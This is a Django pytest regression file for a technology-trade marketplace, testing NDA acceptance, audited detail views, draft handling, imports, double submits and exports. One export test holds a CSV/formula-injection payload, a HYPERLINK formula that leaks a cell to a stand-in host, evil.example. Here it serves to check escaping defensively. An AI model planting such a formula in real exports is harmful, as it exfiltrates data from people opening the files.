"""Regressions found in the review of the tech-trade app: the NDA flow when the owner's NDA
changes under the user, audited reads of details on the edit page, drafts kept out of deals,
the change feed when a listing is published, imports, double submits and readable labels."""

import re

import pytest
from django.urls import reverse

from sadari.techtrade.models import DetailRequest, NdaAcceptance
from sadari.techtrade.services import nda_current_for, nda_publish

pytestmark = pytest.mark.django_db


def _hidden(html: str, name: str) -> str:
    return re.search(rf'name="{name}" value="([^"]*)"', html)[1]


def test_a_changed_nda_can_be_accepted_on_the_page_that_announces_it(client, market):
    """The owner publishes a new NDA while the requester reads the old one: the refusal shows
    the new text, and accepting it there succeeds (the form no longer carries the stale
    version and hash, which made every further click fail)."""
    url = reverse("techtrade:technology-request", args=[market["tech"].pk])
    client.force_login(market["other_corporate"])
    page = client.get(url).content.decode()
    stale = {"nda_id": _hidden(page, "nda_id"), "nda_sha256": _hidden(page, "nda_sha256")}
    new = nda_publish(owner=market["startup"], by=market["founder"], title="v2", text_ko="새 본문")

    refused = client.post(url, {**stale, "accept": "on", "requester": market["other_corp"].pk})
    html = refused.content.decode()

    assert refused.status_code == 200
    assert refused.context["form"].non_field_errors()
    assert "새 본문" in html
    assert (_hidden(html, "nda_id"), _hidden(html, "nda_sha256")) == (str(new.pk), new.sha256)
    assert 'name="accept" checked' not in html  # the new text must be accepted anew

    again = client.post(
        url,
        {"nda_id": _hidden(html, "nda_id"), "nda_sha256": _hidden(html, "nda_sha256"),
         "accept": "on", "requester": market["other_corp"].pk},
    )  # fmt: skip

    assert again.status_code == 302
    request = DetailRequest.objects.get(technology=market["tech"], requester=market["other_corp"])
    assert request.acceptance.nda == new
    assert NdaAcceptance.objects.get(pk=request.acceptance_id).text_sha256 == new.sha256
    assert nda_current_for(owner=market["startup"]) == new


@pytest.mark.parametrize("kind", ["need", "tech"])
def test_the_edit_form_is_an_audited_read_of_the_details(login, market, kind):
    """The edit page shows the confidential details to the owner's members: every view of
    details is recorded, so this one too (channel "edit"), and the owner sees it."""
    from sadari.common.models import AuditEvent
    from tests.techtrade.conftest import NEED_SECRET, TECH_SECRET

    owner = "corporate" if kind == "need" else "founder"
    url_name = "techtrade:need-edit" if kind == "need" else "techtrade:technology-edit"
    action = (
        "techtrade.need.view_details" if kind == "need" else "techtrade.technology.view_details"
    )
    client = login(owner)
    before = AuditEvent.objects.filter(action=action).count()

    page = client.get(reverse(url_name, args=[market[kind].pk]))

    assert (NEED_SECRET if kind == "need" else TECH_SECRET) in page.content.decode()
    events = AuditEvent.objects.filter(action=action)
    assert events.count() == before + 1
    event = events.order_by("-id").first()
    assert (event.actor, event.target_id, event.detail["via"]) == (
        market[owner], str(market[kind].pk), "edit",
    )  # fmt: skip
    views = client.get(reverse("techtrade:detail-views")).context["views"]
    assert any(v.via == "edit" and v.item == market[kind] for v in views)


def test_a_draft_never_names_a_deal_the_other_party_sees(client, market):
    """Drafts are their owners' only; opening a deal from one would put its title on the
    other party's board, deal page and the funnel exports."""
    from sadari.techtrade.deals import PipelineError, deal_open
    from sadari.techtrade.models import Deal
    from sadari.techtrade.services import need_create

    draft = need_create(
        owner=market["corp"], by=market["corporate"], title_ko="비공개초안수요", status="draft"
    )
    client.force_login(market["corporate"])

    response = client.post(
        reverse("techtrade:deal-create"), {"need": draft.pk, "technology": market["tech"].pk}
    )

    assert response.status_code == 302
    assert response["Location"] == draft.get_absolute_url()
    assert not Deal.objects.filter(need=draft).exists()
    with pytest.raises(PipelineError):
        deal_open(
            buyer=market["corp"], seller=market["startup"], need=draft,
            technology=market["tech"], by=market["corporate"],
        )  # fmt: skip
    client.force_login(market["founder"])
    board = client.get(reverse("techtrade:deal-board")).content.decode()
    assert "비공개초안수요" not in board


def test_a_request_made_from_a_draft_does_not_name_the_draft(client, market):
    from sadari.techtrade.models import Deal
    from sadari.techtrade.services import need_create

    draft = need_create(
        owner=market["other_corp"], by=market["other_corporate"], title_ko="초안에서요청",
        status="draft",
    )  # fmt: skip
    nda = nda_current_for(owner=market["startup"])
    client.force_login(market["other_corporate"])

    response = client.post(
        reverse("techtrade:technology-request", args=[market["tech"].pk])
        + f"?from=need:{draft.pk}",
        {"nda_id": nda.pk, "nda_sha256": nda.sha256, "accept": "on",
         "requester": market["other_corp"].pk},
    )  # fmt: skip

    assert response.status_code == 302
    deal = Deal.objects.get(buyer=market["other_corp"], technology=market["tech"])
    assert deal.need is None
    assert "초안에서요청" not in deal.title


def test_a_draft_technology_cannot_be_proposed(client, market):
    from datetime import timedelta

    from django.utils import timezone

    from sadari.techtrade.deals import PipelineError, challenge_create, proposal_submit
    from sadari.techtrade.services import technology_create

    today = timezone.localdate()
    challenge = challenge_create(
        host=market["corp"], by=market["corporate"], title_ko="공개 챌린지",
        opens_on=today - timedelta(days=1), closes_on=today + timedelta(days=9),
    )  # fmt: skip
    draft = technology_create(
        owner=market["startup"], by=market["founder"], title_ko="초안기술", status="draft"
    )
    client.force_login(market["founder"])

    page = client.get(reverse("techtrade:challenge-propose", args=[challenge.pk]))

    assert "초안기술" not in page.content.decode()
    with pytest.raises(PipelineError):
        proposal_submit(
            challenge=challenge, startup=market["startup"], by=market["founder"], title="t",
            summary="s", technology=draft,
        )  # fmt: skip


@pytest.mark.parametrize("kind", ["need", "challenge"])
def test_publishing_a_draft_feeds_its_public_fields(market, kind):
    """Public feed readers never saw a draft's events: when it is published they must get
    every public field (not just "status"), never the details; unpublishing tells them the
    new status and nothing else."""
    from datetime import timedelta

    from django.utils import timezone

    from sadari.feed.models import ChangeEvent
    from sadari.techtrade.deals import challenge_create, challenge_update
    from sadari.techtrade.services import listing_update, need_create

    if kind == "need":
        item = need_create(
            owner=market["corp"], by=market["corporate"], title_ko="초안 수요", teaser_ko="공개 요약",
            details_ko="초안기밀", status="draft",
        )  # fmt: skip
        feed_kind = "tech_need"

        def update(**values):
            listing_update(item=item, by=market["corporate"], **values)
    else:
        today = timezone.localdate()
        item = challenge_create(
            host=market["corp"], by=market["corporate"], title_ko="초안 챌린지",
            summary_ko="공개 요약", opens_on=today, closes_on=today + timedelta(days=9),
            status="draft",
        )  # fmt: skip
        feed_kind = "challenge"

        def update(**values):
            challenge_update(challenge=item, by=market["corporate"], **values)

    def public_events():
        return ChangeEvent.objects.filter(kind=feed_kind, entity_id=item.pk, is_public=True)

    assert not public_events().exists()

    update(status="open")

    published = public_events().get()
    assert {"title_ko", "status"} <= set(published.fields)
    assert published.data["title_ko"] == item.title_ko
    assert "초안기밀" not in str(published.data)

    update(status="draft", title_ko="다시 초안")

    unpublished = public_events().order_by("-id").first()
    assert (unpublished.fields, unpublished.data["status"]) == (["status"], "draft")
    assert "다시 초안" not in str(unpublished.data)
    private = ChangeEvent.objects.filter(kind=feed_kind, entity_id=item.pk, is_public=False)
    assert private.order_by("-id").first().data["title_ko"] == "다시 초안"


def test_import_preview_flags_amounts_too_large_for_the_database(client, market):
    """An amount above the column's limit passed the preview and failed on commit with the
    database's bare limit and no column; the preview now names the cell."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sadari.techtrade.models import TechImport, Technology

    client.force_login(market["founder"])
    data = "title,price,trl\n거대가격기술,9999999999999999999999,3\n".encode()

    client.post(
        reverse("techtrade:import-upload"),
        {"kind": "technology", "owner_id": market["startup"].pk,
         "file": SimpleUploadedFile("t.csv", data)},
    )  # fmt: skip
    job = TechImport.objects.get()
    preview = client.get(reverse("techtrade:import-detail", args=[job.pk]))

    assert [(i["row"], i["column"]) for i in preview.context["issues"]] == [(2, "price")]
    client.post(reverse("techtrade:import-detail", args=[job.pk]))
    assert not Technology.objects.filter(title_ko="거대가격기술").exists()


def test_import_columns_are_named_as_users_know_them(client, market):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sadari.techtrade.forms import TITLE_LABELS
    from sadari.techtrade.models import TechImport, TechNeed

    client.force_login(market["corporate"])
    data = "제목,TRL,최소예산,비공개상세\n수요,6,5천만,기밀\n".encode()
    client.post(
        reverse("techtrade:import-upload"),
        {"kind": "need", "owner_id": market["corp"].pk, "file": SimpleUploadedFile("n.csv", data)},
    )
    job = TechImport.objects.get()

    columns = dict(client.get(reverse("techtrade:import-detail", args=[job.pk])).context["columns"])

    assert columns == {
        "제목": str(TITLE_LABELS["title_ko"]),
        "TRL": str(TechNeed._meta.get_field("trl_wanted").verbose_name),
        "최소예산": str(TechNeed._meta.get_field("budget_min_krw").verbose_name),
        "비공개상세": str(TechNeed._meta.get_field("details_ko").verbose_name),
    }
    assert not any("_" in label for label in columns.values())


def test_an_uploader_who_left_the_organization_cannot_commit_its_import(client, market):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from sadari.accounts.models import Membership
    from sadari.techtrade.models import TechImport, TechNeed

    client.force_login(market["corporate"])
    client.post(
        reverse("techtrade:import-upload"),
        {"kind": "need", "owner_id": market["corp"].pk,
         "file": SimpleUploadedFile("n.csv", "제목\n떠난사람의수요\n".encode())},
    )  # fmt: skip
    job = TechImport.objects.get()
    Membership.objects.filter(user=market["corporate"], organization=market["corp"]).delete()
    client.force_login(market["corporate"])  # a fresh user object: no cached memberships

    assert client.get(reverse("techtrade:import-detail", args=[job.pk])).status_code == 404
    assert client.post(reverse("techtrade:import-detail", args=[job.pk])).status_code == 404
    assert not TechNeed.objects.filter(title_ko="떠난사람의수요").exists()


def test_listing_forms_label_titles_and_keep_the_details_last(client, market):
    from sadari.techtrade.forms import TITLE_LABELS

    client.force_login(market["founder"])

    form = client.get(reverse("techtrade:technology-create")).context["form"]

    names = list(form.fields)
    assert names[-2:] == ["details_ko", "details_en"]
    assert names.index("field_codes") < names.index("description_ko")
    assert names.index("trl") < names.index("patents_text") < names.index("price_min_krw")
    assert form.fields["title_ko"].label == TITLE_LABELS["title_ko"]


def test_who_viewed_names_organizations_in_the_readers_language(client, market):
    market["approved_corp"].name_en = "Approved Industries"
    market["approved_corp"].save(update_fields=["name_en"])
    client.force_login(market["approved"])
    client.get(reverse("techtrade:need-detail", args=[market["need"].pk]))
    client.force_login(market["corporate"])

    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = client.get(reverse("techtrade:detail-views"))
    client.post("/i18n/setlang/", {"language": "ko", "next": "/"})
    korean = client.get(reverse("techtrade:detail-views"))

    def names(response):
        return [v.organizations for v in response.context["views"] if v.actor == market["approved"]]

    assert names(english) == [["Approved Industries"]]
    assert names(korean) == [["승인기업"]]


def test_home_does_not_ask_a_signed_in_user_to_log_in(client, make_user):
    client.force_login(make_user("loner"))

    page = client.get(reverse("techtrade:home")).content.decode()

    assert reverse("accounts:login") + "?next=" not in page


def test_explanations_read_as_reasons_in_pages_and_api(client, market):
    """Bare numbers and Korean verb endings ("찾습니다") are not reasons; the API names fields
    by the directory's codes (lower case), like every other tech-trade field list."""
    from sadari.techtrade.matching import readable_terms

    assert readable_terms(["드론", "찾습니다", "늦습니다", "10", "배송 ↔ delivery", "ab#c"]) == [
        "드론", "배송 ↔ delivery",
    ]  # fmt: skip
    client.force_login(market["corporate"])

    rows = client.get(f"/api/v1/techtrade/needs/{market['need'].pk}/matches").json()

    explanation = rows[0]["explanation"]
    assert "climate" in explanation["field_overlap"]
    assert all(code == code.lower() for code in explanation["field_overlap"])
    assert "CLIMATE" not in explanation["summary_en"]


def test_a_second_click_on_publish_posts_one_need(client, market):
    from sadari.techtrade.models import TechNeed

    client.force_login(market["corporate"])
    data = {
        "owner_id": market["corp"].pk, "title_ko": "두 번 누른 수요", "status": "open",
        "field_codes": ["ai"],
    }  # fmt: skip

    first = client.post(reverse("techtrade:need-create"), data)
    second = client.post(reverse("techtrade:need-create"), data)

    needs = TechNeed.objects.filter(title_ko="두 번 누른 수요")
    assert needs.count() == 1
    assert first["Location"] == second["Location"] == needs.get().get_absolute_url()


def test_a_message_sent_twice_is_posted_once(client, market):
    from sadari.techtrade.deals import deal_open
    from sadari.techtrade.models import DealMessage

    deal = deal_open(
        buyer=market["corp"], seller=market["startup"], need=market["need"],
        technology=market["tech"], by=market["corporate"],
    )  # fmt: skip
    client.force_login(market["corporate"])
    url = reverse("techtrade:deal-message", args=[deal.pk])

    client.post(url, {"body": "화요일 2시 괜찮으세요?"})
    client.post(url, {"body": "화요일 2시 괜찮으세요?"})
    client.post(url, {"body": "다른 말"})

    assert list(deal.messages.values_list("body", flat=True)) == [
        "화요일 2시 괜찮으세요?",
        "다른 말",
    ]
    assert DealMessage.objects.count() == 2


def test_a_challenge_selects_at_least_one_team(client, market):
    from datetime import timedelta

    from django.core.exceptions import ValidationError
    from django.utils import timezone

    from sadari.techtrade.deals import challenge_create

    today = timezone.localdate()
    client.force_login(market["corporate"])
    data = {
        "kind": "top_down", "title_ko": "선정 없는 챌린지", "opens_on": today.isoformat(),
        "closes_on": (today + timedelta(days=9)).isoformat(), "max_selected": "0",
        "selection_method": "manual", "status": "open",
    }  # fmt: skip

    response = client.post(reverse("techtrade:challenge-create"), data)

    assert response.status_code == 200
    assert "max_selected" in response.context["form"].errors
    with pytest.raises(ValidationError):
        challenge_create(
            host=market["corp"], title_ko="선정 없는 챌린지", opens_on=today,
            closes_on=today + timedelta(days=9), max_selected=0,
        )  # fmt: skip


def test_the_demo_gives_each_offer_its_own_details_and_deals_their_real_dates(settings):
    """Every offer had the same confidential text (a leak of one could not be told from the
    owner's own view of another), and every deal was "created" the day the demo ran."""
    from io import StringIO

    from django.core.management import call_command
    from django.utils import timezone

    from sadari.techtrade.models import Deal, Technology

    settings.SADARI_MATCH_ENCODER = "none"
    call_command("seed_demo", "--startups", "80", "--apps", "techtrade", stdout=StringIO())

    details = list(Technology.objects.values_list("details_ko", flat=True))
    assert len(set(details)) == len(details)
    today = timezone.localdate()
    assert Deal.objects.exclude(created_at__date=today).count() > Deal.objects.count() // 2
    for deal in Deal.objects.all():
        opened = deal.history.exclude(stage="posted").order_by("at").first()
        assert deal.created_at == opened.at


def test_the_city_buying_through_its_challenge_is_not_listed_as_a_corporate(market):
    from sadari.techtrade.deals import deal_open
    from sadari.techtrade.funnel import Scope, scopes_for

    city = market["hub"]
    deal_open(buyer=city, seller=market["startup"], technology=market["tech"], by=None)
    deal_open(buyer=market["corp"], seller=market["startup"], need=market["need"], by=None)

    scopes = {(s.kind, s.organization) for s in scopes_for(user=market["operator"])}

    assert ("corporate", city) not in scopes
    assert ("institution", city) in scopes
    assert ("corporate", market["corp"]) in scopes
    assert Scope("city") in scopes_for(user=market["operator"])


def test_the_poc_page_names_its_deal(client, market):
    from sadari.techtrade.deals import deal_move, deal_open
    from sadari.techtrade.models import Poc

    deal = deal_open(
        buyer=market["corp"], seller=market["startup"], need=market["need"],
        technology=market["tech"], by=market["corporate"],
    )  # fmt: skip
    deal_move(deal=deal, to_stage="poc", by=market["corporate"])
    client.force_login(market["founder"])

    page = client.get(Poc.objects.get(deal=deal).get_absolute_url()).content.decode()

    assert f'<a href="{deal.get_absolute_url()}">{deal.title}</a>' in page


@pytest.mark.parametrize("flaw", ["other_owners_nda", "other_text", "other_organization"])
def test_an_approval_counts_only_with_the_requesters_acceptance_of_the_owners_nda(market, flaw):
    """An approved request opens the details only when it carries the requester's own
    acceptance of this owner's NDA, with the hash of the text that version holds."""
    from sadari.techtrade.rules import can_view_listing_details

    request = DetailRequest.objects.get(
        technology=market["tech"], requester=market["approved_corp"]
    )
    assert can_view_listing_details(market["approved"], market["tech"])
    if flaw == "other_owners_nda":
        foreign = nda_current_for(owner=market["other_corp"])
        request.acceptance = NdaAcceptance.objects.create(
            nda=foreign, organization=market["approved_corp"], text_sha256=foreign.sha256
        )
        request.save()
    elif flaw == "other_text":
        NdaAcceptance.objects.filter(pk=request.acceptance_id).update(text_sha256="0" * 64)
    else:
        NdaAcceptance.objects.filter(pk=request.acceptance_id).update(
            organization=market["other_corp"]
        )

    assert not can_view_listing_details(market["approved"], market["tech"])


@pytest.mark.parametrize("role", ["staff", "operator", "corporate", "founder"])
def test_every_link_on_my_tech_trade_opens(login, market, role):
    """The dashboard linked institution staff and city operators to "Our NDA" and the import,
    pages only owners of needs or technologies have (404)."""
    from django.urls import resolve

    client = login(role)
    page = client.get(reverse("techtrade:home")).content.decode()

    links = set(re.findall(r'href="(/techtrade/[^"#?]*)', page))
    assert links
    broken = []
    for link in sorted(links):
        match = resolve(link)
        if match.url_name in ("deal-create",):
            continue
        if client.get(link).status_code != 200:
            broken.append(link)
    assert broken == []


def test_the_detail_requests_tab_opens_for_a_user_without_an_organization(client, make_user):
    client.force_login(make_user("no_org"))

    response = client.get(reverse("techtrade:request-list"))

    assert response.status_code == 200
    assert not response.context["incoming"].object_list


def test_funnel_exports_never_turn_a_title_into_a_formula(client, market):
    """Item titles are user input and flow into the deal titles of the funnel export; an
    operator opening the file must not run "=HYPERLINK(…)" (CSV/formula injection)."""
    import csv
    import io

    import openpyxl

    from sadari.techtrade.deals import deal_open
    from sadari.techtrade.services import technology_create

    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    tech = technology_create(owner=market["startup"], by=market["founder"], title_en=evil)
    deal_open(buyer=market["corp"], seller=market["startup"], technology=tech, by=None)
    client.force_login(market["operator"])

    text = client.get(reverse("techtrade:funnel-csv")).content.decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("techtrade:funnel-xlsx")).content))

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    xlsx_cells = [c for row in book.worksheets[1].iter_rows() for c in row]
    titled = [c for c in xlsx_cells if c.value == evil]
    assert titled
    assert all(c.data_type == "s" for c in titled)


def test_a_revoked_requester_is_told_and_loses_the_details(client, market):
    from django.utils.translation import gettext

    from sadari.techtrade.services import detail_request_decide
    from tests.techtrade.conftest import TECH_SECRET

    request = DetailRequest.objects.get(
        technology=market["tech"], requester=market["approved_corp"]
    )
    detail_request_decide(request=request, by=market["founder"], approve=False)
    client.force_login(market["approved"])

    page = client.get(market["tech"].get_absolute_url()).content.decode()
    api = client.get(f"/api/v1/techtrade/technologies/{market['tech'].pk}").json()

    assert TECH_SECRET not in page
    assert "details_en" not in api
    assert api["can_view_details"] is False
    assert gettext("The owner revoked your organization's access to the details.") in page
    assert reverse("techtrade:technology-request", args=[market["tech"].pk]) in page


@pytest.mark.parametrize("url_name", ["techtrade:need-create", "techtrade:challenge-create"])
def test_field_checkboxes_render_as_a_wrapping_list(client, market, url_name):
    client.force_login(market["corporate"])

    page = client.get(reverse(url_name)).content.decode()

    block = re.search(r'<ul id="id_field_codes" class="checks">(.*?)</ul>', page, re.S)
    assert block
    assert block[1].count("<li>") == block[1].count('type="checkbox"') > 10
    assert 'value="drone"' in block[1]


def test_a_draft_offers_no_deal_button_on_its_matches(client, market):
    from sadari.techtrade.services import need_create

    draft = need_create(
        owner=market["corp"], by=market["corporate"], title_ko="배터리 진단 초안",
        teaser_ko="전기차 배터리 수명 진단", fields=["climate"], status="draft",
    )  # fmt: skip
    client.force_login(market["corporate"])

    draft_page = client.get(draft.get_absolute_url())
    open_page = client.get(market["need"].get_absolute_url()).content.decode()

    assert draft_page.context["matches"]
    assert reverse("techtrade:deal-create") not in draft_page.content.decode()
    assert reverse("techtrade:deal-create") in open_page


def test_demo_offers_of_different_startups_have_different_titles(settings):
    """Several startups offering the same kind of technology appeared as identical entries
    (three "물류 피킹 로봇 팔" in a row among a need's matches)."""
    from collections import Counter
    from io import StringIO

    from django.core.management import call_command

    from sadari.techtrade.models import Technology

    settings.SADARI_MATCH_ENCODER = "none"
    call_command("seed_demo", "--startups", "150", "--apps", "techtrade", stdout=StringIO())

    titles = Counter(Technology.objects.values_list("title_ko", "title_en"))
    assert max(titles.values()) == 1
    assert not Technology.objects.filter(title_en__contains=" aI").exists()
